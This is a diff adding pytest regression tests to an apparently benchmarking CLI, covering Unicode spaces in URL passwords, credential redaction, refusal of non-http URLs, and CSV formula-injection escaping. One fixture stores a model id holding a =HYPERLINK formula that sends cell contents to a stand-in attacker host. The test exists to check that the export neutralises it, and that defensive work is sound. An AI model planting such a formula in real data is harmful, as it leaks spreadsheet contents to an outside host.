@@ -1,4 +1,4 @@
-"""Hostile round 8 of issue #49: what an eighth round of hostile inputs found, each answered now."""
+"""Hostile rounds 8 and 9 of issue #49: what the eighth and ninth rounds of hostile inputs found, each answered now."""
 
 from __future__ import annotations
 
@@ -187,3 +187,117 @@ def test_numbers_are_ascii_and_a_huge_one_is_named_as_written() -> None:
         ran = CliRunner().invoke(app, args)
         assert ran.exit_code == 2, (args, ran.output[-500:])
         assert said in ran.output, (args, ran.output[-500:])
+
+
+NBSP, IDEOGRAPHIC_SPACE, LINE_SEPARATOR = "\u00a0", "\u3000", "\u2028"
+
+
+@pytest.mark.parametrize(
+    ("option", "url", "said"),
+    [  # R9-1: a password holding a non-ASCII space passed round 8's check and was stored (url_spans cut the URL there)
+        ("--base-url", f"http://user:pa{NBSP}NBSPPW@127.0.0.1:9", "it holds a character no URL holds"),
+        ("--base-url", "http://user:pa\u0085NELPW@127.0.0.1:9", "it holds a character no URL holds"),
+        # R9-2: one aiohttp cannot send as Basic auth (Latin-1) was an 83-line traceback
+        (
+            "--metrics-url",
+            f"http://user:pa{IDEOGRAPHIC_SPACE}IDEOPW@127.0.0.1:9/m",
+            "it holds a character no URL holds",
+        ),
+        (
+            "--base-url",
+            f"http://user:pa{LINE_SEPARATOR}LSEPPW@127.0.0.1:9",
+            "it holds a character no URL holds",
+        ),
+        ("--metrics-url", "http://user:pa\u4e2dHANPW@127.0.0.1:9/m", "beyond Latin-1: percent-encode it"),
+        # R9-8: an empty or ftp:// metrics URL said "cannot scrape metrics at : " without naming the option
+        ("--metrics-url", "", "give an http(s)://HOST[:PORT]/PATH URL"),
+        ("--metrics-url", "ftp://127.0.0.1:9/metrics", "give an http(s)://HOST[:PORT]/PATH URL"),
+    ],
+)
+def test_round9_url_options_with_unicode_spaces_or_other_schemes_are_refused_without_the_password(
+    option: str, url: str, said: str
+) -> None:
+    from typer.testing import CliRunner
+
+    from alflow.cli import app
+
+    base = [] if option == "--base-url" else ["--base-url", "http://127.0.0.1:9"]
+    ran = CliRunner().invoke(app, ["bench", *base, "--num-prompts", "1", option, url])
+    assert ran.exit_code == 2, ran.output[-500:]
+    assert said in ran.output
+    assert option in ran.output
+    assert "PW" not in ran.output
+    assert "Traceback" not in ran.output
+
+
+def test_round9_a_url_with_a_unicode_space_in_its_password_is_redacted_and_refused_in_configuration(
+    tmp_path: Path,
+) -> None:
+    """R9-1, R9-3, R9-9: U+00A0 in a password ended the URL for redaction (stored, printed) and for the
+    configuration's credential check (an external base_url and an s3 results_root were accepted)."""
+    import re
+
+    from typer.testing import CliRunner
+
+    from alflow.cli import app
+    from alflow.util.redact import URL_CREDENTIALS_PATTERN, redact_urls_in_text, urls_with_credentials
+
+    url = f"http://user:pa{NBSP}SECRETPW@127.0.0.1:9/api"
+    assert "SECRETPW" not in redact_urls_in_text(f"the Prefect API at {url} answered")
+    assert urls_with_credentials(url)
+    assert re.search(
+        URL_CREDENTIALS_PATTERN, url
+    )  # the UI's form refuses it too (the flows' parameter schemas)
+    config = tmp_path / "m2.yaml"
+    for placement in (
+        f'  runner: {{kind: external, base_url: "{url}", dialect: vllm}}\n  results_root: {tmp_path}\n',
+        f'  results_root: "s3://AKIDX:se{NBSP}SECRETPW@bucket/x"\n',
+    ):
+        config.write_text(
+            "server: {framework: sim, model: m}\nplacement:\n" + placement + "model: {id: m}\nk: 3\n"
+            "target_al: 2.0\nconcurrencies: [2]\n",
+            encoding="utf-8",
+        )
+        ran = CliRunner().invoke(app, ["run", "m2", "--config", str(config), "--dry-run"])
+        assert ran.exit_code == 2, ran.output[-800:]
+        assert "credentials in a URL are refused" in ran.output
+        assert "SECRETPW" not in ran.output
+
+
+def test_round9_a_csv_export_never_holds_a_live_spreadsheet_formula(tmp_path: Path) -> None:
+    """R9-7: a stored model id ``=HYPERLINK(...)`` was written as a formula cell (CWE-1236)."""
+    import shutil
+
+    from typer.testing import CliRunner
+
+    from alflow.cli import app
+
+    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "runs" / "4f9de94" / "m2"
+    run = tmp_path / "m2" / next(p.name for p in fixture.iterdir())
+    shutil.copytree(next(fixture.iterdir()), run)
+    manifest = json.loads((run / "manifest.json").read_text())
+    manifest["config"]["model"]["id"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    (run / "manifest.json").write_text(json.dumps(manifest))
+    out = tmp_path / "rows.csv"
+    ran = CliRunner().invoke(app, ["report", "show", str(run), "-f", "csv", "-o", str(out)])
+    assert ran.exit_code == 0, ran.output[-500:]
+    import csv
+
+    cells = [cell for row in csv.reader(out.read_text().splitlines()) for cell in row]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+
+
+def test_round9_a_run_that_ends_before_it_starts_is_unreadable(tmp_path: Path) -> None:
+    """R9-10: a naive start after the run's end was listed as a complete, passed run."""
+    from alflow.results.catalog import Catalog
+    from tests.unit.test_site import M2, make_root
+
+    root = make_root(tmp_path)
+    manifest = root / M2 / "manifest.json"
+    data = json.loads(manifest.read_text())
+    data["started"], data["finished"] = "2026-12-01T07:00:11", "2026-12-01T06:00:00+00:00"
+    manifest.write_text(json.dumps(data))
+    (entry,) = [e for e in Catalog(str(root)).entries() if e.rel == M2]
+    assert entry.problem is not None
+    assert "is before its start" in entry.problem
